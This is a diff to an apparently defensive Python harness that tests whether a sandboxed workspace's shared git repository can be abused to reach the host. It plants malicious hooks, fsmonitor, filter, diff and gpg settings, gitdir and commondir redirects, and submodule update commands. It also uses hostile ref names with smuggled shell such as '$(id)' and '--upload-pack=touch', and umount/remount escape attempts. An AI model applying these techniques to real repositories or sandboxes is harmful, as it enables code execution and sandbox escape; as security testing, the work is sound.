@@ -25,13 +25,14 @@ AT_SYMLINK_FOLLOW = 0x400
 RENAME_EXCHANGE = 2
 RAW = "/raw"
 WORK = "/workspace"
-PRISTINE = "/root/pristine.git"
+PRISTINE = "/root/pristine"
 HOOKS = ("post-index-change", "pre-commit", "post-commit", "post-checkout", "reference-transaction", "pre-auto-gc",
          "prepare-commit-msg", "commit-msg", "post-merge", "post-rewrite", "fsmonitor-watchman")
 NASTY = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\u009b5m\u202egnp.exe\u2066\u200b"
 
 scene = {}
 done = []
+own = []
 race = None
 
 
@@ -50,13 +51,13 @@ def hooks_path():
 
 def hooks():
     for name in HOOKS:
-        _try(f"hook {name}", lambda: _program(f"{RAW}/.git/hooks/{name}", "hook"))
+        _try(f"hook {name}", lambda: _program(f"{_raw()}/.git/hooks/{name}", "hook"))
 
 
 def filter_by_attributes():
     _configure("filter.evil.clean", _canary("filter") + "; cat")
-    _try("info/attributes", lambda: _write(f"{RAW}/.git/info/attributes", "* filter=evil\n"))
-    _write(f"{WORK}/README", "other\n")
+    _try("info/attributes", lambda: _write(f"{_raw()}/.git/info/attributes", "* filter=evil\n"))
+    _write(f"{_work()}/README", "other\n")
 
 
 def include_path():
@@ -66,51 +67,53 @@ def include_path():
 
 def worktree_configuration():
     _configure("extensions.worktreeConfig", "true")
-    _try("config.worktree", lambda: _evil_config(f"{RAW}/.git/config.worktree", "config.worktree"))
+    _try("config.worktree", lambda: _evil_config(f"{_raw()}/.git/config.worktree", "config.worktree"))
 
 
 def swapped_repository():
     _take_git_away()
-    _try("init", lambda: _runs("git", "init", "-q", RAW))
+    _try("init", lambda: _runs("git", "init", "-q", _raw()))
     _configure("core.fsmonitor", _canary("swapped"))
 
 
 def git_file():
     _evil_bare(f"{WORK}/evil-repository", "gitdir")
     _take_git_away()
-    _try("write", lambda: _write(f"{RAW}/.git", "gitdir: evil-repository\n"))
+    _try("write", lambda: _write(f"{_raw()}/.git", f"gitdir: {_up()}evil-repository\n"))
 
 
 def git_link():
     _evil_bare(f"{WORK}/evil-repository", "link")
     _take_git_away()
-    _try("link", lambda: os.symlink("evil-repository", f"{RAW}/.git"))
+    _try("link", lambda: os.symlink(f"{_up()}evil-repository", f"{_raw()}/.git"))
 
 
 def common_directory():
     _evil_bare(f"{WORK}/evil-common", "commondir")
-    _try("commondir", lambda: _write(f"{RAW}/.git/commondir", "../evil-common\n"))
+    _try("commondir", lambda: _write(f"{_raw()}/.git/commondir", f"../{_up()}evil-common\n"))
 
 
 def unmounted():
     """Looks below what lies over `.git`, in a mount namespace of its own."""
+    work, raw = _work(), _raw()
     inner = (
-        "umount -l /workspace/.git; umount -l /run/host-git/objects; mount -o remount,rw /raw; mount -o remount,bind,rw /raw/.git;"
-        f" umount -l /raw/.git; cd /workspace && git config -f .git/config core.fsmonitor \"{_canary('unmounted')}\";"
-        f" git config -f /raw/.git/config core.fsmonitor \"{_canary('unmounted')}\";"
-        " rmdir .git; mv .git .git2; rm -rf .git/hooks; ls -la .git /raw/.git"
+        f"umount -l {work}/.git; umount -l {WORK}/.git; umount -l /run/host-git/objects; mount -o remount,rw /raw;"
+        f" mount -o remount,bind,rw {raw}/.git; umount -l {raw}/.git; cd {work};"
+        f" git config -f .git/config core.fsmonitor \"{_canary('unmounted')}\";"
+        f" git config -f {raw}/.git/config core.fsmonitor \"{_canary('unmounted')}\";"
+        f" rmdir .git; mv .git .git2; rm -rf .git/hooks; ls -la .git {raw}/.git"
     )
     done.append(_shell("unshare", "-m", "sh", "-c", inner))
 
 
 def objects_of_the_host():
     """What of the host's repository is shown is its objects: to be read, and not to be written."""
-    if scene["git"] != "own":
-        return
     os.makedirs("/objects", exist_ok=True)
-    done.append(_shell("mount", "-o", "remount,rw", "/run/host-git/objects"))
+    places = [line.split()[1] for line in _read("/proc/mounts").splitlines() if line.split()[1].startswith("/run/host-git")]
+    for place in places:
+        done.append(_shell("mount", "-o", "remount,rw", place))
     done.append("again: " + _shell("mount", "-t", _file_system(), _mount_options(), "objects", "/objects"))
-    for place in ("/objects", "/run/host-git/objects"):
+    for place in [*places, "/objects", f"{_raw()}/.git/objects"]:
         _try("new object", lambda: _write(f"{place}/aa/evil", "evil"))
         _try("alternates", lambda: _write(f"{place}/info/alternates", scene["outside"] + "\n"))
         _try("rename", lambda: os.rename(f"{place}/pack", f"{place}/pack2"))
@@ -141,10 +144,20 @@ def bare_repository():
     _evil_bare(f"{WORK}/bare", "implicit bare repository")
 
 
+def bare_repository_in_a_commit():
+    """With a file in each directory, as a commit holds no empty ones."""
+    bare_repository()
+    for name in ("objects", "refs"):
+        _write(f"{WORK}/bare/{name}/kept", "")
+    if _has_git():
+        _git("-C", WORK, "add", "-f", "bare")
+        _git("-C", WORK, "commit", "-qm", "bare")
+
+
 def external_diff():
     _configure("diff.external", _canary("diff.external"))
     _configure("diff.evil.textconv", _canary("textconv") + "; cat")
-    _write(f"{WORK}/README", "other\n")
+    _write(f"{_work()}/README", "other\n")
 
 
 def pager():
@@ -170,8 +183,8 @@ def gpg_program():
     _configure("gpg.program", scene["project"] + "/evil-gpg")
     _configure("log.showSignature", "true")
     if _has_git():
-        tree = _git("-C", WORK, "rev-parse", "HEAD^{tree}")
-        parent = _git("-C", WORK, "rev-parse", "HEAD")
+        tree = _git("-C", _work(), "rev-parse", "HEAD^{tree}")
+        parent = _git("-C", _work(), "rev-parse", "HEAD")
         who = "Eve <eve@example.org> 1700000000 +0000"
         signature = "gpgsig -----BEGIN PGP SIGNATURE-----\n \n evil\n -----END PGP SIGNATURE-----\n"
         _commit_object(f"tree {tree}\nparent {parent}\nauthor {who}\ncommitter {who}\n{signature}\nsigned\n")
@@ -202,8 +215,6 @@ def trusted_filter():
 
 def tree_with(name):
     """A commit whose tree has a name that some file system takes for `.git`, or that leads up."""
-    if not _has_git():
-        return
     blob = _object("blob", b"#!/bin/sh\n" + _canary("tree").encode() + b"\n")
     hooks = _object("tree", _entry("100755", "post-index-change", blob))
     evil = _object("tree", _entry("40000", "hooks", hooks))
@@ -212,16 +223,12 @@ def tree_with(name):
 
 
 def submodules(url):
-    if not _has_git():
-        return
     modules = _object("blob", f'[submodule "x"]\n\tpath = x\n\turl = {url}\n\tupdate = !{_canary("update")}\n'.encode())
     _commit_tree(_object("tree", _entry("100644", ".gitmodules", modules)))
 
 
 def linked_git_files():
     """`.gitmodules`, `.gitattributes`, `.mailmap` as links, in a commit."""
-    if not _has_git():
-        return
     target = _object("blob", (scene["outside"] + "/secrets/key").encode())
     names = (".gitattributes", ".gitignore", ".gitmodules", ".mailmap")
     _commit_tree(_object("tree", b"".join(_entry("120000", name, target) for name in names)))
@@ -237,8 +244,6 @@ def directory_becomes_link():
 
 
 def hostile_refs(which):
-    if not _has_git():
-        return
     head = _git("-C", WORK, "rev-parse", "HEAD")
     forbidden = ["../../config", "..", "a/../../hooks/post-checkout", "@{0}", "x.lock", "a b", NASTY]
     odd = ["-x", "--upload-pack=touch", "HEAD", "é" * 120, "refs/heads/main", "x\u202egnp", "c1\u009b5m", "$(id)", "`id`", ";id", "|id"]
@@ -265,8 +270,6 @@ def lying_git():
 
 def corrupt_objects():
     """Objects that are not what their names say, and a history with holes."""
-    if not _has_git():
-        return
     _write(f"{WORK}/README", "corrupt\n")
     _git("-C", WORK, "commit", "-qam", "corrupt")
     blob = _git("-C", WORK, "rev-parse", "HEAD:README")
@@ -559,11 +562,11 @@ def prepare():
     _runs("mount", "--bind", WORK, RAW)
     _write(f"{RAW}/writable", "")
     os.unlink(f"{RAW}/writable")
-    _look(f"{RAW}/.git")
+    _look(f"{_raw()}/.git")
     os.environ.update(HOME="/root", GIT_CONFIG_GLOBAL="/root/.gitconfig")
     _write("/root/.gitconfig", "[user]\n\tname = Eve\n\temail = eve@example.org\n[safe]\n\tdirectory = *\n[gc]\n\tauto = 0\n")
-    if _has_own_git():
-        _runs("cp", "-a", f"{WORK}/.git", PRISTINE)
+    for number, path in enumerate(_own()):
+        _runs("cp", "-a", path, f"{PRISTINE}{number}")
 
 
 def put_back():
@@ -575,8 +578,8 @@ def put_back():
         race = None
     if os.path.exists("/usr/bin/git.true"):
         os.rename("/usr/bin/git.true", "/usr/bin/git")
-    if _has_own_git():
-        _runs("rsync", "-a", "--delete", PRISTINE + "/", f"{WORK}/.git/")
+    for number, path in enumerate(_own()):
+        _runs("rsync", "-a", "--delete", f"{PRISTINE}{number}/", path + "/")
     return seen
 
 
@@ -596,12 +599,34 @@ def _mount_options():
     return "-orw" if scene["driver"] == "virtiofs" else "-orw,trans=virtio,version=9p2000.L"
 
 
-def _has_own_git():
-    return scene["git"] == "own"
+def _own():
+    """Directories that the host does not put back, as they are on the guest's disk."""
+    if scene["git"] == "apart":
+        return [WORK]
+    if scene["git"] != "own":
+        return []
+    # The first time, before anything is attacked.
+    if not own:
+        own.extend(_git("-C", place, "rev-parse", "--absolute-git-dir") for place in dict.fromkeys((WORK, _work())))
+    return own
 
 
 def _has_git():
-    return scene["git"] in ("own", "direct")
+    return scene["git"] != "none"
+
+
+def _raw():
+    """The repository that is attacked, as the share has it."""
+    return os.path.join(RAW, scene["attacked"]).rstrip("/")
+
+
+def _work():
+    return os.path.join(WORK, scene["attacked"]).rstrip("/")
+
+
+def _up():
+    """From there to the top."""
+    return "../" * len(scene["attacked"].split("/")) if scene["attacked"] else ""
 
 
 def _canary(what):
@@ -619,7 +644,7 @@ def _program(path, what):
 
 def _configure(key, value):
     """By git, as a new file and by adding to the old one."""
-    path = f"{RAW}/.git/config"
+    path = f"{_raw()}/.git/config"
     _try("git config", lambda: _runs("git", "config", "-f", path, key, value))
     if done[-1] != "git config: done":
         section, _, name = key.rpartition(".")
@@ -642,14 +667,21 @@ def _evil_bare(path, what):
 
 
 def _take_git_away():
-    _try("rename", lambda: os.rename(f"{RAW}/.git", f"{RAW}/.git-away"))
-    _try("remove", lambda: os.rmdir(f"{RAW}/.git"))
-    if os.path.isdir(f"{RAW}/.git-away"):
-        _try("remove the old", lambda: shutil.rmtree(f"{RAW}/.git-away"))
+    """Or what holds it: a directory above it may be moved, with another in its place."""
+    if scene["attacked"]:
+        above = scene["attacked"].split("/")[0]
+        _try("rename", lambda: os.rename(_raw(), _raw() + "-away"))
+        _try("rename", lambda: os.rename(f"{RAW}/{above}", f"{RAW}/{above}-away"))
+        _try("rename", lambda: os.rename(f"{WORK}/{above}", f"{WORK}/{above}-away"))
+    _try("rename", lambda: os.rename(f"{_raw()}/.git", f"{_raw()}/.git-away"))
+    _try("remove", lambda: os.rmdir(f"{_raw()}/.git"))
+    _try("unlink", lambda: os.unlink(f"{_raw()}/.git"))
+    if os.path.isdir(f"{_raw()}/.git-away"):
+        _try("remove the old", lambda: shutil.rmtree(f"{_raw()}/.git-away"))
 
 
 def _object(kind, content):
-    ended = subprocess.run(["git", "-C", WORK, "hash-object", "-t", kind, "--literally", "-w", "--stdin"], input=content,
+    ended = subprocess.run(["git", "-C", _work(), "hash-object", "-t", kind, "--literally", "-w", "--stdin"], input=content,
                            capture_output=True, check=True)
     return ended.stdout.decode().strip()
 
@@ -659,14 +691,14 @@ def _entry(mode, name, identity):
 
 
 def _commit_tree(tree):
-    parent = _git("-C", WORK, "rev-parse", "HEAD")
+    parent = _git("-C", _work(), "rev-parse", "HEAD")
     who = "Eve <eve@example.org> 1700000000 +0000"
     _commit_object(f"tree {tree}\nparent {parent}\nauthor {who}\ncommitter {who}\n\nevil\n")
 
 
 def _commit_object(text):
     commit = _object("commit", text.encode())
-    _git("-C", WORK, "update-ref", "HEAD", commit)
+    _git("-C", _work(), "update-ref", "HEAD", commit)
 
 
 def _git(*arguments):
